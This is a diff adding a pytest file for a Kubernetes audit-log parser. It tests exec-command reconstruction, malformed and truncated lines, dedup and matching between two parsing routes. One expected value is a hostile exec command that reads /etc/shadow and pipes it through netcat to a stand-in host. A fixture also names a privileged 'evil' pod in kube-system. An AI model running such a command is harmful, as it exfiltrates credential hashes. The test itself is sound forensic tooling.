@@ -1,0 +1,160 @@
+"""Native audit.k8s.io Events: JSONL (fast DuckDB route and Python route), EventList,
+v1beta1, truncated and malformed lines, exec reconstruction, dedup."""
+
+from __future__ import annotations
+
+import json
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from sources_helpers import by_id
+
+EXEC = "a1000000-0000-0000-0000-000000000001"
+WS_EXEC = "a1000000-0000-0000-0000-000000000002"
+SECRETS = "a1000000-0000-0000-0000-000000000003"
+POD = "a1000000-0000-0000-0000-000000000004"
+CUT = "a1000000-0000-0000-0000-000000000005"
+
+
+def test_exec_command_reconstructed_from_request_uri(read, fixtures: Path) -> None:
+    result, rows = read(fixtures / "native-clean.jsonl")
+    ev = by_id(rows)
+    # command= repeated, %XX and "+" decoded as Go's url.Values encodes them
+    assert ev[EXEC]["exec_command"] == ["sh", "-c", "cat /etc/shadow | nc x 1"]
+    assert ev[EXEC]["exec_container"] == "app"
+    assert ev[WS_EXEC]["verb"] == "get"  # kubectl >= 1.30 execs over WebSocket
+    assert ev[WS_EXEC]["exec_command"] == ["id"]
+    assert ev[SECRETS]["exec_command"] is None
+    assert result.events_by_source == {"native/jsonl": 5}
+
+
+def test_contract_columns_filled(read, fixtures: Path) -> None:
+    _, rows = read(fixtures / "native-clean.jsonl")
+    pod = next(r for r in rows if r["audit_id"] == POD and r["stage"] == "ResponseComplete")
+    assert pod["username"] == "alice"
+    assert pod["user_groups"] == ["system:authenticated"]
+    assert pod["source_ips"] == ["203.0.113.7", "10.0.0.4"]
+    assert (pod["obj_resource"], pod["obj_namespace"], pod["obj_name"]) == (
+        "pods",
+        "kube-system",
+        "evil",
+    )
+    assert pod["response_code"] == 201
+    assert json.loads(pod["request_object"])["spec"]["hostPID"] is True
+    assert json.loads(pod["annotations"])["authorization.k8s.io/decision"] == "allow"
+    assert pod["stage_timestamp"] == datetime(2024, 5, 1, 10, 0, 0, 250000, tzinfo=UTC)
+    assert pod["provider"] == "native" and pod["envelope"] == "jsonl"
+    assert pod["source_line"] == 5
+    assert pod["event_key"] == f"native:{POD}:ResponseComplete"
+    assert json.loads(pod["raw"])["auditID"] == POD
+    assert pod["truncated"] is False
+
+
+@pytest.mark.parametrize("keep_raw", [True, False])
+def test_fast_route_equals_python_route(read, fixtures: Path, keep_raw: bool) -> None:
+    fast_result, fast = read(fixtures / "native-clean.jsonl", keep_raw=keep_raw)
+    slow_result, slow = read(fixtures / "native-clean.jsonl", native_fast=False)
+    assert fast_result.events_read == slow_result.events_read == 5
+    for a, b in zip(fast, slow, strict=True):
+        for col in a:
+            if col == "raw":
+                if keep_raw:
+                    assert json.loads(a[col]) == json.loads(b[col])
+                else:
+                    assert a[col] is None
+            elif col in ("request_object", "response_object", "annotations", "user_extra"):
+                assert (a[col] and json.loads(a[col])) == (b[col] and json.loads(b[col])), col
+            else:
+                assert a[col] == b[col], col
+
+
+def test_fast_route_line_numbers_agree_with_python_route(read, tmp_path: Path) -> None:
+    """DuckDB skips blank lines without counting them; source_line is the record number in
+    both routes, and caveats give the physical line."""
+    events = [
+        {
+            "kind": "Event",
+            "auditID": f"id-{i}",
+            "stage": "ResponseComplete",
+            "verb": "get",
+            "requestURI": "/api/v1/pods",
+        }
+        for i in range(3)
+    ]
+    p = tmp_path / "blank.jsonl"
+    p.write_text(
+        json.dumps(events[0])
+        + "\n\n"
+        + json.dumps(events[1])
+        + "\n  \n"
+        + json.dumps(events[2])
+        + "\n"
+    )
+    _, fast = read(p)
+    _, slow = read(p, native_fast=False)
+    assert [r["source_line"] for r in fast] == [r["source_line"] for r in slow] == [1, 2, 3]
+
+
+def test_malformed_truncated_and_duplicate_lines(read, fixtures: Path) -> None:
+    result, rows = read(fixtures / "native-events.jsonl")
+    ev = by_id(rows)
+    # 10 non-blank lines: 6 events + 1 salvaged cut + 1 non-event + 1 garbage + 1 duplicate
+    assert result.events_read == 6
+    assert result.duplicates == 1
+    assert result.skipped == {"not an audit record": 1}
+    cut = ev[CUT]
+    assert cut["truncated"] is True
+    assert cut["verb"] == "delete"
+    assert cut["request_uri"] == "/api/v1/namespaces/prod/events/x"
+    kinds = [(c.kind, c.provenance.location if c.provenance else ()) for c in result.caveats]
+    assert ("malformed-line", ("line 7",)) in kinds  # physical line (line 3 is blank)
+    assert ("malformed-line", ("line 9",)) in kinds
+    assert any(c.kind == "duplicates" and c.details["count"] == 1 for c in result.caveats)
+    # the rest of the file after the broken lines was read: the duplicate on the last line
+    # was seen (and dropped in favour of the first)
+    assert ev[EXEC]["source_line"] == 1
+
+
+def test_eventlist_document_and_lines(read, fixtures: Path) -> None:
+    result, rows = read(fixtures / "native-eventlist.json")
+    assert {r["audit_id"] for r in rows} == {EXEC, SECRETS}
+    assert result.events_by_source == {"native/eventlist": 2}
+    assert result.skipped == {"native: EventList item that is not an Event": 1}
+    result, rows = read(fixtures / "native-eventlist-lines.jsonl")
+    assert result.events_by_source == {"native/eventlist": 2}
+    assert [r["source_line"] for r in rows] == [1, 2]
+
+
+def test_v1beta1_event_uses_top_level_timestamp(read, fixtures: Path) -> None:
+    _, rows = read(fixtures / "native-v1beta1.jsonl")
+    (row,) = rows
+    assert row["stage_timestamp"] == datetime(2018, 10, 25, 13, 58, 49, tzinfo=UTC)
+    assert row["username"] == "system:anonymous"
+    assert row["obj_resource"] == "namespaces"
+
+
+def test_dedup_keeps_first_seen_across_files(read, fixtures: Path, tmp_path: Path) -> None:
+    copy = tmp_path / "copy.jsonl"
+    copy.write_bytes((fixtures / "native-clean.jsonl").read_bytes())
+    result, rows = read([fixtures / "native-clean.jsonl", copy])
+    assert result.events_read == 5
+    assert result.duplicates == 5
+    assert {r["source_file"] for r in rows} == {str(fixtures / "native-clean.jsonl")}
+
+
+def test_mistyped_field_goes_python_route_and_is_kept_in_raw(read, tmp_path: Path) -> None:
+    ev = {
+        "kind": "Event",
+        "auditID": "x1",
+        "stage": "ResponseComplete",
+        "verb": "get",
+        "requestURI": "/api/v1/pods",
+        "user": "bob",
+    }
+    p = tmp_path / "typed.jsonl"
+    p.write_text(json.dumps(ev) + "\n")
+    result, rows = read(p)
+    assert rows[0]["username"] is None
+    assert json.loads(rows[0]["raw"])["user"] == "bob"
+    assert any(c.kind == "field-type" and "user" in c.message for c in result.caveats)
